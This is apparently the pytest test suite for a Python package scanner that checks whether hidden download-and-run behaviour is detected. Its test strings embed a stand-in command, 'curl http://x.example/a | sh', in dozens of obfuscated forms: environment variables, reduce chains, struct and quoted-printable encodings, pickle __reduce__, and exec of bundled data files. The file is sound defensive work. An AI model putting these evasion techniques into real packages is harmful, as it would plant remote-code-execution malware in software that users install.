"""A command is followed from where it is written to where it is run, whatever carries it: records,
documents, variables, generators, packed bytes; and code in text is read wherever it is run."""

from __future__ import annotations

import json
import pickle

import pytest

from safe_pip.extractors import observe
from tests.sources import distribution_of

DOWNLOADS_AND_RUNS = {"shell_download", "proc_spawn_unasked"}
COMMAND = "curl http://x.example/a | sh"
NUMBERS = list(COMMAND.encode())
QUOTED = "".join(f"={number:02X}" for number in NUMBERS)
RUN = f"__import__('os').system('{COMMAND}')"

CARRIED = {
    "property": f"class A:\n @property\n def x(self): return '{COMMAND}'\nos.system(A().x)",
    "property by getattr": f"class A:\n @property\n def x(self): return '{COMMAND}'\nos.system(getattr(A(), 'x'))",
    "function of a property": f"class A:\n @property\n def x(self): return os.system\nA().x('{COMMAND}')",
    "class made by a call": f"type('X', (), {{'a': os.system}}).a('{COMMAND}')",
    "next": f"next(iter([os.system]))('{COMMAND}')",
    "named tuple": f"import collections\nP = collections.namedtuple('P', 'a b')\nos.system(P('{COMMAND}', 1).a)",
    "data class": f"import dataclasses\n@dataclasses.dataclass\nclass A:\n c: str\nos.system(A('{COMMAND}').c)",
    "namespace": f"import types\nos.system(types.SimpleNamespace(c='{COMMAND}').c)",
    "template": "import string\nos.system(string.Template('$a http://x.example/a | sh').substitute(a='curl'))",
    "dedent": f"import textwrap\nos.system(textwrap.dedent('  {COMMAND}'))",
    "variable": f"os.environ['Q'] = '{COMMAND}'\nos.system(os.environ['Q'])",
    "default of a variable": f"os.environ.setdefault('Q', '{COMMAND}')\nos.system(os.getenv('Q'))",
    "reduce": "import functools\nos.system(functools.reduce(lambda a, b: a + b, ['cu', 'rl http://x.example/a | sh']))",
    "attribute by reduce": f"import functools\nfunctools.reduce(getattr, ['system'], os)('{COMMAND}')",
    "sum by reduce": "import functools, operator\nos.system(functools.reduce(operator.add, ['cu', 'rl http://x.example/a | sh']))",
    "variable that is set between two calls": (
        f"def f():\n os.system(os.getenv('Q'))\nf()\nos.environ['Q'] = '{COMMAND}'\nf()"
    ),
    "chain": "import itertools\nos.system(''.join(itertools.chain(['cu'], ['rl http://x.example/a | sh'])))",
    "match": f"match {{'k': '{COMMAND}'}}:\n case {{'k': v}}:\n  os.system(v)",
    "globals": f"globals()['q'] = '{COMMAND}'\nos.system(q)",
    "setattr": f"class A: pass\nsetattr(A, 'q', '{COMMAND}')\nos.system(A.q)",
    "docstring": f"def f():\n '''{COMMAND}'''\nos.system(f.__doc__)",
    "document": f"import json\nos.system(json.loads('{json.dumps({'c': COMMAND})}')['c'])",
    "quoted-printable": f"import quopri\nos.system(quopri.decodestring('{QUOTED}').decode())",
    "struct": f"import struct\nos.system(struct.pack('{len(NUMBERS)}B', *{NUMBERS}).decode())",
    "array": f"import array\nos.system(array.array('B', {NUMBERS}).tobytes().decode())",
    "generator": f"def g():\n yield '{COMMAND}'\nfor c in g():\n os.system(c)",
    "argument vector": f"os.execvp('sh', ['sh', '-c', '{COMMAND}'])",
    "argument vector of posix_spawn": f"os.posix_spawn('/bin/sh', ['sh', '-c', '{COMMAND}'], {{}})",
    "keyword": f"os.system(command='{COMMAND}')",
    "keywords": f"os.system(**{{'command': '{COMMAND}'}})",
    "method of the base": (
        "class A:\n def go(self, c): os.system(c)\n"
        f"class B(A):\n def go(self, c): super().go(c)\nB().go('{COMMAND}')"
    ),
    "standard input": f"import subprocess\nsubprocess.run('sh', input=b'{COMMAND}')",
    "pipe": (
        "import subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\n"
        f"p.communicate(b'{COMMAND}')"
    ),
    "interpreter": f'import code\ncode.InteractiveInterpreter().runsource("{RUN}")',
    "timer": f'import timeit\ntimeit.timeit("{RUN}")',
    "set-up of a timer": f'import timeit\ntimeit.timeit("pass", setup="{RUN}")',
    "profiler": f'import cProfile\ncProfile.run("{RUN}")',
    "debugger": f'import pdb\npdb.run("{RUN}")',
    "tracer": f'import trace\ntrace.Trace().run("{RUN}")',
    "function of code": f"import types\ntypes.FunctionType(compile(\"{RUN}\", '', 'exec'), {{}})()",
    "handed on by keyword": f"import x\nx.on(callback=os.system, args=('{COMMAND}',))",
}  # fmt: skip


def found_in(sources: dict[str, str]) -> set[str]:
    return {item.feature for item in observe(distribution_of(sources))}


@pytest.mark.parametrize("way", CARRIED)
def test_command_is_followed(way: str) -> None:
    assert found_in({"pkg/__init__.py": f"import os\n{CARRIED[way]}\n"}) >= DOWNLOADS_AND_RUNS


def test_variable_that_is_set_keeps_what_it_was() -> None:
    source = (
        "import os, urllib.request\nif 0:\n os.environ['USER'] = 'me'\n"
        "urllib.request.urlopen('http://x.example/' + os.environ['USER'])\n"
    )
    found = {item.feature for item in observe(distribution_of({"pkg/__init__.py": source}))}
    plain = source.replace("os.environ['USER'] = 'me'", "pass")
    assert found >= {i.feature for i in observe(distribution_of({"pkg/__init__.py": plain}))}


def test_pickle_in_the_code_that_starts_a_program() -> None:
    source = f"import pickle\npickle.loads({pickle.dumps(_Starts(), protocol=0)!r})\n"
    found = observe(distribution_of({"pkg/__init__.py": source}))
    assert "dyn_exec_unasked" in {item.feature for item in found}


def test_module_that_is_run_by_name_is_read() -> None:
    sources = {
        "pkg/__init__.py": "import runpy\nrunpy.run_module('pkg.other')\n",
        "pkg/other.py": f"import os\nos.system('{COMMAND}')\n",
    }
    assert found_in(sources) >= DOWNLOADS_AND_RUNS


FILES = {
    "read_text": "import importlib.resources as r\nexec(r.read_text('pkg', 'd.txt'))",
    "files": "import importlib.resources as r\nexec(r.files('pkg').joinpath('d.txt').read_text())",
    "folder": "from importlib.resources import files\nexec((files(__package__) / 'd.txt').read_text())",
    "get_data": "import pkgutil\nexec(pkgutil.get_data(__name__, 'd.txt'))",
    "resource_string": "import pkg_resources\nexec(pkg_resources.resource_string(__name__, 'd.txt'))",
    "with_name": "import pathlib\nexec(pathlib.Path(__file__).with_name('d.txt').read_text())",
    "document": "import json\nexec(json.load(open('pkg/d.json'))['c'])",
}  # fmt: skip


@pytest.mark.parametrize("way", FILES)
def test_data_file_that_is_executed_is_read(way: str) -> None:
    sources = {
        "pkg/__init__.py": f"{FILES[way]}\n",
        "pkg/d.txt": f"import os\nos.system('{COMMAND}')\n",
        "pkg/d.json": json.dumps({"c": RUN}),
    }
    assert found_in(sources) >= DOWNLOADS_AND_RUNS


IMPORTS = {
    "dotted": "import pkg.x\npkg.x.run()",
    "two of one package": "import pkg.x\nimport pkg.y\npkg.x.run()",
    "relative by name": "import importlib\nimportlib.import_module('.x', __name__).run()",
}


@pytest.mark.parametrize("way", IMPORTS)
def test_function_of_another_module_is_followed(way: str) -> None:
    sources = {
        "pkg/__init__.py": f"{IMPORTS[way]}\n",
        "pkg/x.py": f"import os\ndef run():\n    os.system('{COMMAND}')\n",
        "pkg/y.py": "import subprocess\ndef go(command):\n    subprocess.run(command)\n",
    }
    assert found_in(sources) >= DOWNLOADS_AND_RUNS


def test_ladder_of_classes_is_searched_once() -> None:
    lines = [
        "import os",
        "class A0:",
        " def __add__(self, o): os.system('x')",
        "class B0(A0): pass",
    ]
    for n in range(1, 60):
        lines += [f"class {letter}{n}(A{n - 1}, B{n - 1}): pass" for letter in "AB"]
    assert "proc_spawn_unasked" in found_in({"pkg/__init__.py": "\n".join([*lines, "A59()", ""])})


@pytest.mark.parametrize(
    "call", ["struct.pack('999999999x')", "array.array('Q', range(99999999))", "textwrap.dedent(q)"]
)
def test_packing_is_bounded(call: str) -> None:
    source = f"import array, os, struct, textwrap\nq = ' ' * 999999\nos.system({call})\n"
    assert observe(distribution_of({"pkg/__init__.py": source}))


class _Starts:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return _system(), (COMMAND,)


def _system() -> object:
    import os

    return os.system
